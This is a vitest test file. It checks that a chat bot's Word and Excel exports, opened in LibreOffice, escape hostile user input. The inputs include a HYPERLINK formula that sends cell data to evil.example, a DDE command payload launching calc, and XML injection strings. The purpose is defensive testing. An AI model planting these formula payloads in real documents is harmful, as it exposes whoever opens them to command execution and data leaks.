/**
 * What the product writes for Word and Excel, of hostile content, opened by LibreOffice. `DOCUMENTS=folder` keeps the files
 * and their pages there, to be looked at.
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Actor, openStage, type Stage, type StageGroup } from '../../bot/commands/testing.ts';
import { render } from '../../bot/render/render.ts';
import { addListening } from '../../prisma/store/listening.ts';
import { isOfficeHere, Office } from '../support/libreoffice.ts';

const dayMs = 86_400_000;

/** What people may write to break a document, or whoever opens it. */
const hostile = {
  formula: '=HYPERLINK("http://evil.example/"&A1,"点我领奖")',
  dde: "=cmd|'/C calc'!A0",
  at: '@SUM(1+9)*cmd',
  xml: '</w:t></w:r><w:p><w:r><w:t>冒充的一段</w:t></w:r></w:p>&amp;<![CDATA[x]]>',
  long: `图书馆闭馆太早${'，晚上想多看一会儿书'.repeat(38)}`,
  unbroken: `w${'x'.repeat(300)}y`,
  controls: '食堂\u0000排队\u0007太久\u001b了\u200b吧',
  direction: '\u202e看反过来的字 קריאה لغة',
  emoji: '🍜👩‍🏫𠮷野家太贵了😭😭',
  lines: '路灯不亮\n=1+1\r\n第三行',
} as const;

let folder: string;
let office: Office;
let stage: Stage;
let group: StageGroup;
let cadre: Actor;
let youth: Actor;
let named: string[];
/** By the file's name without its number: its pages. */
const pages = new Map<string, readonly string[]>();
/** The same as LibreOffice understood its cells. */
const cells = new Map<string, string>();

/** A quarter's list of all that is hostile, and of so much else that the paper has several pages. */
async function quarter(): Promise<void> {
  const texts = [...Object.values(hostile), ...Array.from({ length: 25 }, (_, n) => `${n + 1}号楼热水总断`)];
  for (const [n, text] of texts.entries()) {
    const asker = n === 0 ? youth : await stage.person(`同学${n}`, group);
    await asker.whispers(`/诉求 ${text}`);
    const number = n + 1;
    if (n % 3 === 0) {
      await cadre.whispers(`/问题清单 转报 ${number}`);
      await asker.presses('同意');
    } else if (n % 3 === 1) await cadre.whispers(`/问题清单 办结 ${number} ${text}`);
    else await cadre.whispers(`/问题清单 无法解决 ${number} ${text}`);
  }
  for (let n = 0; n < 4; n++) await (await stage.person(`同感${n}`, group)).whispers('/同感 1');
  const midnight = Date.parse('2026-07-21T00:00:00+08:00');
  await addListening(stage.database.db, stage.accountId, { from: midnight, until: midnight + 20 * dayMs });
  stage.now = midnight + 20 * dayMs;
}

async function survey(number: number, kind: string): Promise<void> {
  await cadre.whispers(
    `/问卷 新建 ${kind === '' ? '' : `${kind} `}=食堂<w:p>\n1. 好吗 A. =1+1 B. ${hostile.emoji} C. 差\n2. 打几分（1-5分）\n3. 想说什么`,
  );
  await cadre.whispers(`/问卷 发布 ${number}`);
  await cadre.whispers('是');
  for (const [n, text] of Object.values(hostile).entries())
    await (await stage.person(`同学${n + 1}`, group)).whispers(
      `/作答 问卷${number} 1${'ABC'[n % 3]} 2 ${(n % 5) + 1} 3 ${text}`,
    );
  await cadre.whispers(`/问卷 结束 ${number}`);
}

/** LibreOffice is started twice: everything as it is printed, and tables as it understands them. */
async function open(): Promise<void> {
  const said = await office.convert(named, 'pdf', folder);
  const tables = named.filter((path) => !path.endsWith('.docx'));
  await office.convert(tables, 'fods', folder);
  for (const path of named) {
    const [, name = '', ending = ''] = /([^/]+)\.(\w+)$/.exec(path) ?? [];
    const pdf = join(folder, `${name}.pdf`);
    expect(existsSync(pdf), `${path}: ${said}`).toBe(true);
    pages.set(`${name}.${ending}`, await office.pages(pdf));
    const table = join(folder, `${name}.fods`);
    if (ending !== 'docx') cells.set(`${name}.${ending}`, await readFile(table, 'utf8'));
  }
}

const shown = (file: string) => (pages.get(file) ?? []).join('\n').replace(/\s+/gu, '');

// Debian has it (`.ci/run` installs it); npm does not.
describe.skipIf(!isOfficeHere)('what LibreOffice makes of the documents', () => {
  beforeAll(async () => {
    const kept = process.env.DOCUMENTS;
    folder = kept ?? (await mkdtemp(join(tmpdir(), 'lianqing-documents-')));
    await mkdir(folder, { recursive: true });
    office = await Office.open(tmpdir());
    stage = await openStage({ at: '2026-07-20T15:00:00+08:00' });
    group = await stage.group('信工22级1班 & <团支部>');
    const administrator = await stage.administrator('王敏');
    cadre = await stage.cadre('李老师', group);
    youth = await stage.person('=小明()', group);
    named = [];
    const keep = async (name: string) => {
      for (const { draft } of stage.bot.all) {
        const content = await render(draft, undefined);
        if (content.type !== 'file') continue;
        const ending = content.name.split('.').at(-1);
        const path = join(folder, `${name}${ending === 'docx' ? '-paper' : ''}.${ending}`);
        await writeFile(path, content.bytes);
        named.push(path);
      }
    };
    await quarter();
    await cadre.whispers('/问题清单 季报');
    await keep('quarter');
    await cadre.whispers('/问题清单 季报 实名');
    await cadre.whispers('是');
    await keep('quarter-named');
    await cadre.whispers('/问题清单 上报');
    await cadre.whispers('是');
    await administrator.whispers('/本单位 问题清单');
    await keep('unit');
    for (const [n, kind] of ['记名', ''].entries()) {
      await survey(n + 1, kind);
      await cadre.whispers(`/问卷 结果 ${n + 1}`);
      await keep(kind === '' ? 'survey' : 'survey-named');
    }
    for (const deed of ['昨天给22级汽修班讲团课《从团徽讲起》，31人', '昨天办实事 帮同学补办饭卡']) {
      await cadre.whispers(`/记 ${deed}`);
      await cadre.whispers('是');
    }
    await cadre.whispers(`/记 感悟 1 ${hostile.formula}`);
    await cadre.whispers('/记 导出');
    await keep('deeds');
    await cadre.whispers('/报告 学期');
    await keep('report');
    await youth.whispers(`/心愿 ${hostile.formula}`);
    await youth.whispers(`/问 ${hostile.xml}`);
    await youth.whispers('/我的数据 导出');
    await keep('own');
    await open();
  }, 600_000);

  afterAll(async () => {
    await stage?.database.close();
    await office?.close();
    if (!process.env.DOCUMENTS) await rm(folder, { recursive: true, force: true });
  });

  it('opens everything, and prints it on as many pages as it is worth', () => {
    expect(Object.fromEntries([...pages].map(([file, all]) => [file, all.length]))).toEqual({
      'quarter-paper.docx': 4,
      'quarter.xlsx': 3,
      'quarter-named-paper.docx': 4,
      'quarter-named.xlsx': 3,
      'unit.xlsx': 2,
      'survey-named.xlsx': expect.any(Number),
      'survey.xlsx': expect.any(Number),
      'deeds.xlsx': 1,
      'report-paper.docx': expect.any(Number),
      'own.xlsx': 7,
    });
    for (const all of pages.values()) for (const page of all) expect(page.trim()).not.toBe('');
  });

  describe('the quarter’s paper', () => {
    it('has its headings in order, its page numbers, its signature at the end', () => {
      const all = pages.get('quarter-paper.docx') ?? [];
      const text = shown('quarter-paper.docx');
      const inOrder = [
        '联系青年问题清单分析报告',
        '信息工程学院委员会：',
        '一、基本情况',
        '二、分析研判',
        '（一）类别和领域',
        '（三）未能解决的问题和原因',
        '三、建议向上反映的共性问题',
        '四、提出人同意转报的具体问题',
        '五、意见和建议',
        '信息工程学院委员会李老师2026年8月10日',
      ];
      const places = inOrder.map((words) => text.indexOf(words));
      expect(places).not.toContain(-1);
      expect(places).toEqual([...places].sort((a, b) => a - b));
      for (const [n, page] of all.entries())
        expect(page.trimEnd()).toMatch(new RegExp(`—\\s?${n + 1}\\s?—$`));
      // The head of a table that goes on stands on the next page, too.
      expect(all.filter((page) => /编号\s+类别\s+领域\s+内容\s+办理情况/u.test(page))).toHaveLength(2);
    });

    it('shows as text what was written to be more', () => {
      const text = shown('quarter-paper.docx');
      expect(text).toContain('<w:p><w:r><w:t>冒');
      expect(text).toContain('食堂排队太久了吧');
      expect(text).not.toMatch(/小明|同学\d/u);
    });
  });

  describe('tables', () => {
    it('hold no formula, no link and no error, whatever was written', () => {
      for (const [file, xml] of cells) {
        expect(xml, file).not.toMatch(/table:formula=|<text:a\b|office:value-type="error"|of:=/u);
        const texts = [...xml.matchAll(/<text:p>(.*?)<\/text:p>/gsu)].map(([, text]) => text ?? '');
        expect(texts.length, file).toBeGreaterThan(3);
        // The second line of a cell is nothing that a spreadsheet reads alone.
        const first = [...xml.matchAll(/<table:table-cell[^>]*><text:p>(.*?)<\/text:p>/gsu)].map(
          ([, text]) => text ?? '',
        );
        expect(
          first.filter((text) => /^\s*[=+\-@＝＋－＠]/u.test(text)),
          file,
        ).toEqual([]);
      }
      expect(cells.get('survey.xlsx')).toContain('&apos;=HYPERLINK(&quot;http://evil.example/&quot;&amp;A1');
      expect(cells.get('deeds.xlsx')).toContain('&apos;=HYPERLINK(');
      expect(cells.get('own.xlsx')).toContain('&apos;=HYPERLINK(');
    });

    it('are whole: every entry, long ones too, and as numbers what is one', () => {
      const ledger = cells.get('quarter.xlsx') ?? '';
      for (let n = 1; n <= 35; n++) expect(ledger).toContain(`office:value="${n}"`);
      expect(ledger).toContain('，晚上想多看一会儿书'.repeat(38));
      expect(ledger).toContain('25号楼热水总断');
      expect(shown('quarter.xlsx').match(/晚上想多看一会儿书/gu)?.length).toBeGreaterThan(60);
      expect(shown('survey.xlsx')).toContain('不记名');
      expect(ledger).not.toMatch(/小明|同学\d/u);
      expect(cells.get('quarter-named.xlsx')).toMatch(/小明.*同学1.*同学34/su);
      expect(cells.get('survey-named.xlsx')).toContain('同学1');
      expect(cells.get('survey.xlsx')).not.toMatch(/同学\d/u);
    });
  });

  it('/报告 is a paper with its evidence', () => {
    const text = shown('report-paper.docx');
    expect(text).toContain('（2026年春季学期）');
    expect(text).toContain('五、依据（交之前删去）');
    expect(text).not.toMatch(/热水|小明|饭卡/u);
  });
});
